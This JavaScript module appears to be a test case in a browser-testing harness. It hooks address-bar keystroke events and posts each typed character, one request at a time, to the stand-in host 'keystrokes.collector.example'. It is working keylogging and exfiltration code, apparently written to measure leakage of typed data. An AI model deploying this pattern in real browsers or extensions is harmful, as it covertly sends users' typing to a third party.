import { post, reportHonestly } from '../../lib/proving.js';

/** Sends each character that is added to the text of the address bar in a request of its own. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-keystrokes');
  let before = '';
  let sending = Promise.resolve();
  browser.on('navigationStart', () => {
    before = '';
  });
  browser.on('keystroke', ({ text }) => {
    const added = text.startsWith(before) ? text.slice(before.length) : text;
    before = text;
    sending = sending.then(() => send(added));

    return sending;
  });

  async function send(characters) {
    for (const key of characters)
      await post(browser, 'https://keystrokes.collector.example/v1', { event: 'key', key }, { pool: 'keys' });
  }
}
